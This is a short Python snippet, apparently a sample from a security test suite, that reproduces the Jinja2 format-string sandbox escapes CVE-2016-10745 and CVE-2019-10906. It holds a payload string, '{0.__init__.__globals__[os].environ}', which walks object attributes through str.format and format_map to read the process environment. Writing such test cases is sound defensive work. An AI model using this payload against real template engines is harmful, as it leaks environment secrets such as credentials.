# Tries: the environment, by a format string that walks attributes and items.
# Origin: CVE-2016-10745 and CVE-2019-10906 (Jinja2: str.format and format_map).

import os


class Row:
    def __init__(self):
        self.size = os.sep


path = "{0.__init__.__globals__[os].environ}"
[path.format(Row()), path.replace("0.", "row.").format_map({"row": Row()})]
